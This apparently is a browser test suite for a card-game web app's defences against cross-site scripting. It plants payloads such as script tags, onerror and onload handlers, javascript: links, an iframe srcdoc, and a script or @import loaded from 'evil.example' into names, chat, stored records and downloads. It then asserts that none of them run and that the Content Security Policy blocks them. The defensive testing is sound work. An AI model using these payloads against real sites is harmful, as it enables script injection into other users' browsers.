"""Scripts in every text that people can enter, and in records, shown in a real browser."""

import json
import re
import sqlite3
from collections.abc import Iterator
from contextlib import ExitStack, closing, contextmanager
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from playwright.sync_api import Page, expect
from websockets.sync.client import ClientConnection, connect
from websockets.typing import Origin

from app.web.cookies import PLAYER
from tests.browser.conftest import NewPerson
from tests.browser.person import Person, play_hand
from tests.browser.test_kept import open_hand
from tests.patience import PATIENCE, until
from tests.served import Served

PWN = """
window.pwned = 0;
window.violations = [];
window.pwn = () => { window.pwned += 1; return ""; };
document.addEventListener("securitypolicyviolation", ({violatedDirective, blockedURI}) =>
  violations.push(`${violatedDirective} ${blockedURI}`));
"""
SVG = "<svg onload=pwn()>Ann"
NAMES = ("<img src onerror=pwn()>", '"onfocus=pwn() x="', "javascript:pwn() {$n}")
"""Texts of the greatest length for a name, each shown at another place of a page."""
TEXT = """</script><script>pwn()</script><img src=x onerror="pwn()"><svg/onload=pwn()>
 <a href="javascript:pwn()">a</a> ' " ` ${pwn()} {{pwn()}} { pwn } --> <iframe srcdoc="<script>
parent.pwn()</script>"></iframe><style>@import 'http://evil.example'</style>javascript:pwn()"""
PLANTED = (
    "[onload], [onerror], [onfocus], [src=x], iframe, a[href^=javascript i], main script, "
    "[style*=import], main style, object, embed"
)
"""What would appear in a page that had taken a text for markup."""


@pytest.fixture
def expected() -> tuple[str, ...]:
    """The planted texts cause these errors on purpose."""
    return ("Content Security Policy", "WebSocket connection to", "status of 404")


def wary(one: Person) -> Person:
    """A browser that counts what foreign scripts do, and what the headers block."""
    one.page.context.add_init_script(PWN)
    return one


def says(page: Page, text: str) -> bool:
    """Whether it is on the page, visible or in a label."""
    labels = "[...document.querySelectorAll('[aria-label]')].map(e => e.ariaLabel)"
    said: str = page.evaluate(f"[document.body.textContent, ...{labels}].join(' ')")
    return text in said


def check(page: Page) -> None:
    """Nothing was run, nothing was blocked, and no text has become markup."""
    assert page.evaluate("window.pwned") == 0
    assert page.evaluate("window.violations") == []
    expect(page.locator(PLANTED)).to_have_count(0)


class Hostile:
    """A visitor who sends what no page would, over a connection of their own."""

    def __init__(self, served: Served, code: str, name: str) -> None:
        headers = {"Origin": served.url}
        self.name = name
        self._url, self._code = served.url, code
        with httpx.Client(base_url=served.url, headers=headers) as http:
            assert http.put("/api/me", json={"name": name}).status_code == 200
            self._cookie = http.cookies[PLAYER]
        self._number = 0

    @contextmanager
    def there(self) -> Iterator[None]:
        """Connect to the table."""
        with connect(
            f"ws://{urlsplit(self._url).netloc}/ws/tables/{self._code}",
            origin=Origin(self._url),
            additional_headers={"Cookie": f"{PLAYER}={self._cookie}"},
            open_timeout=PATIENCE,
            proxy=None,
        ) as self._socket:
            yield

    _socket: ClientConnection

    def ask(self, kind: str, **rest: Any) -> str:
        """The code of the refusal; "" if it was accepted."""
        self._number += 1
        self._socket.send(json.dumps({"type": kind, "id": self._number, **rest}))
        while True:
            told = json.loads(self._socket.recv(PATIENCE))
            if told["type"] in ("ack", "refused") and told["id"] == self._number:
                return str(told.get("code", ""))


def test_names_and_chat_at_a_table_are_text_to_everybody_there(
    person: NewPerson, served: Served
) -> None:
    ann, ben = wary(person(SVG)), wary(person("Ben"))
    link = ann.create_table()
    ann.sit(0)
    code = link.rpartition("/")[2]
    people = [Hostile(served, code, name) for name in NAMES]
    with ExitStack() as stack:
        for seat, one in enumerate(people[:2], 1):
            stack.enter_context(one.there())
            assert one.ask("sit", seat=seat, name=one.name) == ""
            assert one.ask("say", text=TEXT) == ""
        watcher = people[2]
        stack.enter_context(watcher.there())
        assert watcher.ask("say", text=f"javascript:pwn() {TEXT}"[:500]) == ""
        assert watcher.ask("react", reaction=TEXT) == "bad_reaction"
        assert watcher.ask("avatar", avatar='bear-2" onload="pwn()') in ("bad_avatar", "not_seated")
        assert watcher.ask("options", options={TEXT: TEXT}) != ""
        ben.page.goto(link)
        for page in (ann.page, ben.page):
            expect(page.get_by_text("onerror=pwn()").first).to_be_attached()
            check(page)
        chat = ann.page.get_by_role("tabpanel", name="Chat")
        if not chat.is_visible():
            ann.page.get_by_role("button", name=re.compile("^Chat")).click()
        expect(chat.get_by_text("<script>pwn()</script>").first).to_be_visible()
        for entry in ("People and seats", "Who is watching", "Options of this table"):
            ann.page.get_by_role("button", name="Menu").click()
            ann.page.get_by_role("button", name=entry).click()
            expect(ann.page.get_by_role("dialog")).to_be_visible()
            check(ann.page)
            ann.page.keyboard.press("Escape")
        ann.page.get_by_role("button", name="Menu").click()
        ann.page.get_by_role("button", name="Lock the table").click()
        until(lambda: watcher.ask("knock", seat=3, name=watcher.name) == "")
        expect(ann.page.get_by_text(f"{watcher.name} wants seat 4")).to_be_visible()
        check(ann.page)
    for page in (ann.page, ben.page):
        page.goto("/")
        expect(page.get_by_role("button", name="Open a table")).to_be_visible()
        check(page)
        page.goto(f"/rules/dingo?table={code}")
        expect(page.get_by_role("heading", level=1)).to_be_visible()
        check(page)


def test_invalid_options_are_refused_and_never_shown_as_a_page(served: Served) -> None:
    with httpx.Client(base_url=served.url, headers={"Origin": served.url}) as http:
        for options in ({"cut": TEXT}, {TEXT: True}, {"match": SVG}, {"hands": [TEXT]}):
            refused = http.post("/api/tables", json={"game": "dingo", "options": options})
            assert (refused.status_code, refused.json()["code"]) == (422, "bad_options")
        refused = http.post("/api/tables", json={"game": TEXT})
        assert refused.json()["code"] == "unknown_game"
        browsing = {"Accept": "text/html"}
        for path in ("/hands/<svg onload=pwn()>", "/t/<svg onload=pwn()>", "/<svg onload=pwn()>"):
            page = http.get(path, headers=browsing)
            assert "<svg onload" not in page.text
            assert "script-src 'self'" in page.headers["content-security-policy"]
        for answer in (refused, http.get("/api/hands/%3Csvg%20onload=pwn()%3E", headers=browsing)):
            assert answer.headers["content-type"] == "application/problem+json"
            assert answer.headers["x-content-type-options"] == "nosniff"


def test_names_and_records_are_text_in_replays_lists_reviews_and_downloads(
    person: NewPerson, served: Served
) -> None:
    ann = wary(person(SVG))
    page = ann.page
    ann.try_with_bots("Ding!")
    play_hand(ann)
    table = urlsplit(page.url).path.rpartition("/")[2]
    hand = urlsplit(open_hand(ann)).path.rpartition("/")[2]
    check(page)
    page.goto(f"/hands/{hand}")
    until(lambda: says(page, SVG))
    check(page)
    take_the_review_along(page)
    for path in (f"/t/{table}/hands", "/me/hands"):
        page.goto(path)
        until(lambda: says(page, SVG))
        check(page)
    planted = plant_in_record(served, hand)
    page.goto(f"/hands/{planted}")
    expect(page.get_by_role("button", name="One step forward")).to_be_visible()
    until(lambda: says(page, "onerror"))
    check(page)
    for button in ("Last step", "Play"):
        page.get_by_role("button", name=button, exact=True).click()
        check(page)
    page.get_by_role("button", name="Check the shuffle").click()
    expect(page.get_by_role("dialog")).to_be_visible()
    check(page)


def take_the_review_along(page: Page) -> None:
    """The downloaded page, opened from the disk, where none of our headers protect anybody."""
    page.locator(".replay-head button[aria-expanded]").click()
    page.locator(".review-details").click()
    links = page.locator(".review-links")
    expect(links).to_be_visible()
    check(page)
    with page.expect_download() as download:
        links.get_by_role("button").click()
    taken = download.value.path()
    file = taken.with_suffix(".html")
    file.write_bytes(taken.read_bytes())
    alone = page.context.new_page()
    alone.goto(file.as_uri())
    expect(alone.get_by_text(SVG).first).to_be_attached()
    check(alone)
    expect(alone.locator("script, [src], [href], form")).to_have_count(0)
    alone.close()
    with page.expect_download() as download:
        links.get_by_role("link").click()
    assert download.value.suggested_filename.endswith(".json"), "no program takes it for a page"
    json.loads(download.value.path().read_text())


def plant_in_record(served: Served, hand: str) -> str:
    """The id of a copy of a hand whose record has markup in every free text."""
    with closing(sqlite3.connect(served.data / "dingo.sqlite3", timeout=PATIENCE)) as database:
        (text,) = database.execute("SELECT record FROM hands WHERE id = ?", (hand,)).fetchone()
        record = json.loads(text)
        for player in record["players"]:
            player["name"] = f"{TEXT} {player['name']}"
            player["bot"] = player["bot"] and TEXT
        record |= {"id": "planted", "table": TEXT}
        for action in record["actions"]:
            action["at"] = TEXT
        names = [{key: one[key] for key in ("seat", "name", "bot")} for one in record["players"]]
        given = ("planted", "planted", json.dumps(names), json.dumps(record), hand)
        database.execute(
            "INSERT INTO hands (id, table_code, players, record, number, game, finished_at,"
            " winners, totals, table_id) SELECT ?, ?, ?, ?, number, game, finished_at, winners,"
            " totals, table_id FROM hands WHERE id = ?",
            given,
        )
        database.commit()
    return "planted"


def test_even_injected_markup_could_run_no_script(
    person: NewPerson,
) -> None:
    """The second line of defence: with our headers a browser runs none of it and connects to
    nobody."""
    eve = wary(person("Eve"))
    for path in ("/", "/hands/nothing", "/docs"):
        eve.page.goto(path)
        eve.page.evaluate(
            """text => {
              document.body.insertAdjacentHTML("beforeend", text);
              const script = document.createElement("script");
              script.textContent = "pwn()";
              document.body.append(script);
              const elsewhere = document.createElement("script");
              elsewhere.src = "http://evil.example/pwn.js";
              document.body.append(elsewhere);
              for (const link of document.querySelectorAll("a[href^='javascript:']"))
                link.dispatchEvent(new MouseEvent("click"));
            }""",
            TEXT,
        )
        until(lambda: len(eve.page.evaluate("window.violations")) >= 4)
        assert eve.page.evaluate("window.pwned") == 0
